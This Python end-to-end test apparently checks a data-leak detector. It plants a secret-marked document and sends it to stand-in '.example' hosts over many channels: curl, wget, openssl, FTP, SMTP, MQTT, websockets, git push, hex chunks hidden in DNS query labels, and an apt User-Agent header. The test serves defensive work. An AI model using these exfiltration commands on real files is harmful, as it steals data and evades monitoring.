# SPDX-License-Identifier: Apache-2.0
"""Programs nobody here wrote, unchanged in the guest: each delivers a document, and the verdict tells by which channel.

Each sends to a host of its own, by which its findings and bytes are told apart. Prints the table of them.
"""

import json

from e2e import check, check_equal, fail, run_json, scenario

WHOLE, PART = "content/whole-file", "content/fragment"
# No file fits into a name or a header field: a piece from its middle, in hexadecimal.
MIDDLE = "tail -c +$(($(stat -c %s $f) / 2)) $f | head -c 60 | od -An -tx1 -v | tr -d ' \\n'"
PIECE = f"$({MIDDLE})"
LABELS = f"$({MIDDLE} | fold -w 40 | tr '\\n' '.').leads.example"
WEBSOCKET = """python3 -c '
import asyncio, ssl, sys, websockets
async def main():
    async with websockets.connect(sys.argv[1], ssl=ssl.create_default_context()) as socket:
        await socket.send(open(sys.argv[2], "rb").read())
        await (await socket.ping())
asyncio.run(main())' wss://$h/socket $f"""
PYTHON = """python3 -c '
import http.client, sys
connection = http.client.HTTPSConnection(sys.argv[1])
connection.request("POST", "/in", open(sys.argv[2], "rb").read())
sys.exit(connection.getresponse().status != 200)' $h $f"""
OPENSSL = """{ printf 'POST /in HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\nContent-Length: %s\\r\\n\\r\\n' $h \
$(stat -c %s $f); cat $f; } | openssl s_client -quiet -verify_return_error -connect $h:443 -servername $h"""
MAIL = "--mail-from a@a.example --mail-rcpt b@b.example -u user:pass -F \"file=@$f;encoder=base64\""
NAIL = "printf 'the plan' | HOME=/root s-nail -n -Sv15-compat -Smta=smtp://user:pass@$h:587 -Ssmtp-use-starttls" \
    " -Ssmtp-auth=login -Sfrom=a@a.example -s plan -a $f b@b.example"
GIT = "rm -rf /tmp/g; git init -q -b main /tmp/g && cd /tmp/g && cp $f . && git add . && git -c user.name=a" \
    " -c user.email=a@b.example commit -q -m all && git push -q http://$h/alex/project.git main"
APT = "echo \"deb [trusted=yes] https://$h/debian stable main\" > /tmp/list; apt-get update -q" \
    f" -o Dir::Etc::sourcelist=/tmp/list -o Dir::Etc::sourceparts=/none -o Acquire::http::User-Agent={PIECE}" \
    f" -o Acquire::https::User-Agent={PIECE} || true"

# The name of the row and its host; the command, in which $f is the document and $h the host; channel; class.
CLIENTS = (
    ("curl-http", "curl -sS -f -T $f http://$h/in", "http", WHOLE),
    ("curl-https", "curl -sS -f --http1.1 -F file=@$f https://$h/in", "https", WHOLE),
    ("curl-h2", "curl -sS -f --http2 --data-binary @$f https://$h/in", "https", WHOLE),
    ("curl-ftp", "curl -sS -u user:pass -T $f ftp://$h/in.txt", "ftp-data", WHOLE),
    ("curl-smtp", f"curl -sS {MAIL} smtp://$h", "smtp", WHOLE),
    ("curl-doh", f"curl -sS --doh-url https://$h/dns-query http://{LABELS}", "https", PART),
    ("wget", "wget -q -O - --post-file=$f https://$h/in", "https", WHOLE),
    ("openssl", OPENSSL, "https", WHOLE),
    ("python-http", PYTHON, "https", WHOLE),
    ("lftp", "HOME=/root lftp -e \"put $f -o in.txt; bye\" -u user,pass ftp://$h", "ftp-data over tls", WHOLE),
    # Mail has lines of its own, so of a file that is not packed for it all but their ends arrives.
    ("s-nail", NAIL, "smtp over tls", PART),
    ("mosquitto", "mosquitto_pub -h $h -q 1 -t plans/new -f $f", "mqtt", WHOLE),
    ("dig-txt", f"dig +tries=1 +time=5 @$h TXT {LABELS}", "dns", PART),
    ("dig-dot", f"dig +tls +tries=1 +time=5 @$h TXT {LABELS}", "dns over tls", PART),
    ("kdig-doh", f"kdig +https +retry=0 @$h TXT {LABELS}", "https", PART),
    ("websockets", WEBSOCKET, "websocket over tls", WHOLE),
    ("git", GIT, "http", WHOLE),
    ("apt", APT, "https", PART),
)
CLOCK = "timeout 30 chronyd -q -t 20 'server chrony.example iburst maxsamples 1'"
UNDERSTOOD = 0.90  # the least share of what a client sends; what is missing it makes up by chance


def document(commands):
    """A scenario that gives each command its document and its host."""
    steps = [{"plant": "memo"}]
    for name, command in commands:
        line = f"set -e; f=$(echo /home/alex/Documents/*); h={name}.example; {command}"
        steps.append({"exec": {"command": line, "within": "60s"}})
    return {"about": "Everything that can deliver a document does.",
            "documents": {"memo": {"format": "txt", "marking": "us/secret", "to": "/home/alex/Documents"}}, "steps": steps}


def run(product, commands, name):
    """The verdict of a run of them, all of which must have been done."""
    file = scenario(json.dumps(document(commands), indent=1), name)
    code, verdict, folder = run_json(file, product, "--seed", 11)
    for step in verdict["steps"]:
        check(step["done"], f"{product}: step {step['index'] + 1} ({step['text']}): {step['detail']}")
    check_equal((code, verdict["verdict"]), (1, "leak"), f"{product}: exit code and verdict")
    return verdict


def row(verdict, host):
    """What went to a host, over all protocols: bytes sent, understood."""
    rows = [each for each in verdict["destinations"] if host in each["names"]]
    return sum(each["sent"] for each in rows), sum(each["understood"] for each in rows)


verdict = run("clients", [*((name, command) for name, command, _, _ in CLIENTS), ("chrony", CLOCK)], "clients")
mistakes = []
print(f"{'client':<14}{'channel':<22}{'class':<22}{'bytes':>9}{'understood':>12}")
for name, _, channel, data_class in CLIENTS:
    host = f"{name}.example"
    # In a frame, a query for a name is told by the domain that was asked for.
    hosts = (host, "leads.example") if channel == "dns" else (host,)
    findings = {(f["channel"], f["class"]) for f in verdict["findings"] if f["destination"].startswith(hosts)}
    sent, understood = row(verdict, host)
    print(f"{name:<14}{channel:<22}{data_class:<22}{sent:>9,}{understood / max(sent, 1):>12.2%}")
    if (channel, data_class) not in findings:
        mistakes.append(f"{name}: expected {(channel, data_class)}, found {sorted(findings)}")
    if understood < UNDERSTOOD * sent:
        mistakes.append(f"{name}: {understood} of {sent} bytes were understood")
sent, understood = row(verdict, "chrony.example")
print(f"{'chrony':<14}{'ntp':<22}{'-':<22}{sent:>9,}{understood / max(sent, 1):>12.2%}")
if sent == 0 or sent != understood:
    mistakes.append(f"chrony: {understood} of {sent} bytes were understood")
if mistakes:
    fail("\n  ".join(["", *mistakes, "All findings:", *(f"{f['destination']} {f['channel']} {f['class']}"
                                                       for f in verdict["findings"])]))

# The product's own two, against its vendor's simulated cloud.
verdict = run("clamav", [("updates", "freshclam --foreground --stdout --update-db=custom"),
                         ("submit", "clamsubmit -e alex@mail.example -N 'Alex Example' -n $f | grep -q success!")], "vendor")
sent, understood = row(verdict, "updates.clamav.example")
check(sent > 0, f"freshclam: {understood} of {sent} bytes were understood")
print(f"{'freshclam':<14}{'https':<22}{'-':<22}{sent:>9,}{understood / max(sent, 1):>12.2%}")
uploads = [f for f in verdict["findings"] if f["class"] == WHOLE]
check(uploads and all(f["channel"] == "https" for f in uploads), f"clamsubmit's upload: {verdict['findings']}")
host = uploads[0]["destination"].split(" ", 1)[0]
sent, understood = row(verdict, host)
check(understood >= UNDERSTOOD * sent, f"clamsubmit: {understood} of {sent} bytes were understood")
print(f"{'clamsubmit':<14}{uploads[0]['channel']:<22}{uploads[0]['class']:<22}{sent:>9,}{understood / max(sent, 1):>12.2%}")
